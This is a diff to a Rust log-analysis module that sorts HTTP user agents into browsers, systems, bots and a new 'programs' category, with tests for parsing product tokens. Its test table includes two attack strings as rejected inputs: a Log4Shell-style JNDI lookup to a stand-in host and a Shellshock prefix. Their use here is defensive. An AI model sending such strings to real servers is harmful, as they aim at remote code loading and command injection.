@@ -1,8 +1,9 @@
-//! What agents are: browsers with their versions, operating systems, and the bots by name.
+//! What agents are: browsers with their versions, operating systems, bots and other programs by name.
 //!
-//! Sections beside those of a breakdown: `browsers`, `browser_versions`, `systems`, `bots`. Each distinct agent is told
-//! once, at the end. The data set is that of Project Woothee; what it does not know and calls itself a bot, crawler or
-//! spider counts as a bot under the name that it gives itself. Agents say what they like: this is what they say.
+//! Sections beside those of a breakdown: `browsers`, `browser_versions`, `systems`, `bots`, `programs`. Each distinct agent
+//! is told once, at the end. The data set is that of Project Woothee; what it does not know and calls itself a bot, crawler
+//! or spider counts as a bot under the name that it gives itself, and all else as a program under that of its first product
+//! (RFC 9110, section 10.1.5). Agents say what they like: this is what they say.
 
 use std::collections::HashMap;
 
@@ -23,11 +24,12 @@ pub(super) fn sections(rows: &Rows<'_>) -> Vec<Section> {
         keyed(section, key)
     };
     let mut browsers = section("browsers", "Browsers", "browser", |told| told.browser.as_ref());
-    let is_known = |told: &Told| told.browser.is_some() || told.bot.is_some();
+    let is_known =
+        |told: &Told| told.browser.is_some() || told.bot.is_some() || told.program.is_some();
     let unknown = rows.iter().filter(|row| !told.get(row.key).is_some_and(is_known));
     let unknown: u64 = unknown.map(|row| row.counter.count()).sum();
     if unknown > 0 {
-        let what = format!("{unknown} records have agents that say neither a browser nor a bot");
+        let what = format!("{unknown} records have agents that name no browser, bot or program");
         browsers.notes.push(Note::info(what));
     }
     vec![
@@ -37,6 +39,7 @@ pub(super) fn sections(rows: &Rows<'_>) -> Vec<Section> {
         }),
         section("systems", "Operating systems", "system", |told| told.system.as_ref()),
         section("bots", "Bots", "bot", |told| told.bot.as_ref()),
+        section("programs", "Programs", "program", |told| told.program.as_ref()),
     ]
 }
 
@@ -50,6 +53,8 @@ struct Told {
     version: Option<String>,
     system: Option<String>,
     bot: Option<String>,
+    /// What is none of these: a library, a monitor, a script.
+    program: Option<String>,
 }
 
 impl Told {
@@ -59,16 +64,39 @@ impl Told {
             return Self { bot: Some(name.to_owned()), ..Self::default() };
         }
         match parser.parse(agent) {
-            None => Self::default(),
             Some(told) if told.category == "crawler" => {
                 Self { bot: Some(told.name.to_owned()), ..Self::default() }
             }
-            Some(told) => {
-                let (browser, system) = (known(told.name), known(told.os));
-                Self { version: version(&told), browser, system, bot: None }
-            }
+            Some(told) if told.category != "misc" && known(told.name).is_some() => Self {
+                version: version(&told),
+                browser: known(told.name),
+                system: known(told.os),
+                ..Self::default()
+            },
+            told => Self {
+                program: product(agent).map(str::to_owned),
+                system: told.and_then(|told| known(told.os)),
+                ..Self::default()
+            },
         }
     }
+}
+
+/// The name of the first product that an agent lists, but for `Mozilla`, which says nothing: `okhttp` of `okhttp/4.12.0`,
+/// `zgrab` of `Mozilla/5.0 (x) zgrab/0.x`.
+fn product(agent: &str) -> Option<&str> {
+    let mut depth = 0_usize;
+    let outside_comments = move |c: char| {
+        depth = if c == '(' { depth + 1 } else { depth };
+        let is_outside = depth == 0 && c != ' ';
+        depth = if c == ')' { depth.saturating_sub(1) } else { depth };
+        !is_outside
+    };
+    let products = agent.split(outside_comments).map(|product| product.split('/').next());
+    let first = products.flatten().find(|name| !name.is_empty() && *name != "Mozilla")?;
+    // What holds other bytes than a token may is an attack more often than a name.
+    let is_of_token = |byte: u8| byte.is_ascii_alphanumeric() || b"!#$%&'*+-.^_`|~".contains(&byte);
+    first.bytes().all(is_of_token).then_some(first)
 }
 
 fn known(word: &str) -> Option<String> {
@@ -115,6 +143,30 @@ mod tests {
         assert_eq!(told(firefox), (Some("Firefox 128".into()), Some("Linux".into()), None));
         let phone = "Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.6 Mobile/15E148 Safari/604.1";
         assert_eq!(told(phone), (Some("Safari 18".into()), Some("iPhone".into()), None));
+    }
+
+    #[test]
+    fn programs_by_their_first_product() {
+        let of = |agent: &str| Told::of(&Parser::new(), agent.as_bytes()).program;
+        for (agent, name) in [
+            ("okhttp/4.12.0", Some("okhttp")),
+            ("python-requests/2.31.0", Some("python-requests")),
+            ("curl/8.5.0", Some("curl")),
+            ("Go-http-client/1.1", Some("Go-http-client")),
+            ("kube-probe/1.27", Some("kube-probe")),
+            ("Apache-HttpClient/4.5.13 (Java/11.0.2)", Some("Apache-HttpClient")),
+            ("Mozilla/5.0 (x (y) z) zgrab/0.x", Some("zgrab")),
+            ("node-fetch", Some("node-fetch")),
+            ("(nobody) said/1", Some("said")),
+            ("Mozilla/5.0", None),
+            ("${jndi:ldap://e.example/a}", None),
+            ("() { :; }; echo", None),
+            ("Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0", None),
+            ("Mozilla/5.0 (compatible; bingbot/2.0; +http://x)", None),
+            ("", None),
+        ] {
+            assert_eq!(of(agent).as_deref(), name, "{agent}");
+        }
     }
 
     #[test]
